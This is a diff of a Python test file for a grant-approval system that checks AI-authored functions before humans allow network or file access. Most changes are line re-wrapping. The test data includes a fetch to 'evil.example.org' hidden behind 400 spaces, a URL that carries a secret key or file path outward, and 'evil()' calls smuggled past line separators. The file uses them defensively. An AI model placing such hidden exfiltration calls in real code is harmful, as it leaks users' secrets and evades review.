@@ -38,7 +38,9 @@ def who_meanwhile(
     return asked
 
 
-async def test_what_is_revoked_before_a_yes_is_written_down_does_not_come_back_with_it(here: Room) -> None:
+async def test_what_is_revoked_before_a_yes_is_written_down_does_not_come_back_with_it(
+    here: Room,
+) -> None:
     await here.save(WIDER, here.root / "functions" / "sky.py")
     await here.shop.grants.grant("weather", Grants(network=(ONE,)))
     plan = await here.shop.grants._plan("weather", Grants(network=(OTHER,)), "")
@@ -61,7 +63,9 @@ async def test_a_call_that_asked_has_no_more_what_was_revoked_meanwhile(here: Ro
     assert getattr(permit, "grants", None) == Grants(network=(OTHER,))
 
 
-async def test_a_candidate_that_came_while_a_human_looked_does_not_join_by_their_yes(here: Room) -> None:
+async def test_a_candidate_that_came_while_a_human_looked_does_not_join_by_their_yes(
+    here: Room,
+) -> None:
     await here.shop.create("weather", WEATHER, "sky", author=AGENT)
     question = await here.shop.grants.question("weather")
     worse = WEATHER.replace("{city}", "{city}?sent={__file__}")
@@ -71,14 +75,18 @@ async def test_a_candidate_that_came_while_a_human_looked_does_not_join_by_their
     assert "weather" not in here.shop.names()
 
 
-async def test_what_a_grant_will_cover_is_shown_before_it_is_asked_for_and_not_again(here: Room) -> None:
+async def test_what_a_grant_will_cover_is_shown_before_it_is_asked_for_and_not_again(
+    here: Room,
+) -> None:
     await here.shop.create("weather", WEATHER, "sky", author=AGENT)
     candidate = await here.shop.grants.question("weather")
     assert "+    return self.fetch(" in candidate.diff
     await here.shop.drop("weather")
     await here.save("def _sign() -> str:\n    return '!'\n", here.root / "functions" / "signs.py")
     signed = WEATHER.replace(".text()", ".text() + _sign()")
-    await here.save(f"from functions.signs import _sign\n\n\n{signed}", here.root / "functions" / "sky.py")
+    await here.save(
+        f"from functions.signs import _sign\n\n\n{signed}", here.root / "functions" / "sky.py"
+    )
     function = await here.shop.grants.question("weather")
     assert "+    return '!'" in function.diff.partition("+    return self.fetch(")[2]
     await here.shop.grants.agree(function)
@@ -110,7 +118,9 @@ async def test_a_yes_for_the_next_call_is_not_for_another_function_and_is_taken_
 
 
 async def test_a_pulled_file_raises_no_limit_of_the_examples_and_a_human_does(here: Room) -> None:
-    (here.root / "functions" / "grants.toml").write_text("[double]\nseconds = 86400\nmemory_mib = 2048\n")
+    (here.root / "functions" / "grants.toml").write_text(
+        "[double]\nseconds = 86400\nmemory_mib = 2048\n"
+    )
     await here.save(PLAIN, here.root / "functions" / "sums.py")
     assert (await here.shop.granting.packages.of_text(PLAIN)).grants == Grants()
     await here.shop.grants.grant("double", Grants(seconds=20))
@@ -122,8 +132,12 @@ def asked(diff: str = "", **more: object) -> str:
     return plain(question_rows(Question("weather", diff=diff, **more), 100))  # type: ignore[arg-type]  # its own fields
 
 
-async def test_long_lines_diffs_and_paths_are_shown_whole_and_no_part_as_a_line_of_its_own() -> None:
-    shown = asked(f"--- a\n+++ b\n@@ -1 +1 @@\n+x = 1{' ' * 400}; self.fetch('http://evil.example.org')").splitlines()
+async def test_long_lines_diffs_and_paths_are_shown_whole_and_no_part_as_a_line_of_its_own() -> (
+    None
+):
+    shown = asked(
+        f"--- a\n+++ b\n@@ -1 +1 @@\n+x = 1{' ' * 400}; self.fetch('http://evil.example.org')"
+    ).splitlines()
     assert [row[:4] for row in shown if "evil.example.org" in row] == ["  ↪ "]
     assert "  │ +x = 1" in shown
     code = f'url = "http://api.example.org/"{" " * 260}; self.fetch(url + self.secret("KEY"))'
@@ -132,7 +146,9 @@ async def test_long_lines_diffs_and_paths_are_shown_whole_and_no_part_as_a_line_
     diff = differences({"a": text}, [ModuleSource.of("a", f"{text.replace('#', '##')}evil()\n")])
     assert "## 4500" in asked(diff)
     assert "evil" in diff
-    assert "/secret" in asked(missing=Grants(read=(f"/{'a/' * 140}secret/",))).replace("\n", "").replace(" ", "")
+    assert "/secret" in asked(missing=Grants(read=(f"/{'a/' * 140}secret/",))).replace(
+        "\n", ""
+    ).replace(" ", "")
 
 
 async def test_the_lines_of_a_diff_are_those_of_python() -> None:
@@ -140,7 +156,9 @@ async def test_the_lines_of_a_diff_are_those_of_python() -> None:
     new = "def f(self):\n    x = 1  # note\u2028    return 1\n    return self.secret('KEY')\n"
     shown = differences({"a": old}, [ModuleSource.of("a", new)]).split("\n")
     assert {"+    x = 1  # note\u2028    return 1", "-    return 1"} <= {*shown}
-    shown = differences({"a": "x = 1\n"}, [ModuleSource.of("a", "x = 1  # note\r    evil()\n")]).split("\n")
+    shown = differences(
+        {"a": "x = 1\n"}, [ModuleSource.of("a", "x = 1  # note\r    evil()\n")]
+    ).split("\n")
     assert "+    evil()" in shown
 
 
@@ -148,7 +166,9 @@ async def test_a_difference_that_nobody_can_read_is_granted_by_nobody(here: Room
     who = human("yes")
     here.shop.granting.approver = who
     assert (await here.shop.create("weather", WEATHER, "sky", author=AGENT)).admitted
-    padding = "".join(f"print({'x' * 4_000!r}, {number})\n" for number in range(60))  # it runs on import
+    padding = "".join(
+        f"print({'x' * 4_000!r}, {number})\n" for number in range(60)
+    )  # it runs on import
     await here.save(f"{WEATHER}\n{padding}", here.root / "functions" / "sky.py")
     await here.shop.call("weather", {"city": "Oslo"})
     await here.save(f"{WEATHER}\n{padding.replace('x', 'y')}", here.root / "functions" / "sky.py")
@@ -159,10 +179,14 @@ async def test_a_difference_that_nobody_can_read_is_granted_by_nobody(here: Room
 
 
 HELPER = "def _address() -> str:\n    return 'one.example.org'\n"
-HELPED = f"from functions.places import _address\n\n\n{WEATHER}".replace("{city}", "{city}{_address()}")
+HELPED = f"from functions.places import _address\n\n\n{WEATHER}".replace(
+    "{city}", "{city}{_address()}"
+)
 
 
-async def test_a_yes_is_refused_if_a_helper_in_another_module_changed_while_the_question_stood(here: Room) -> None:
+async def test_a_yes_is_refused_if_a_helper_in_another_module_changed_while_the_question_stood(
+    here: Room,
+) -> None:
     await here.save(HELPER, here.root / "functions" / "places.py")
     await here.save(HELPED, here.root / "functions" / "sky.py")
     question = await here.shop.grants.question("weather", Grants(network=(ONE,)))
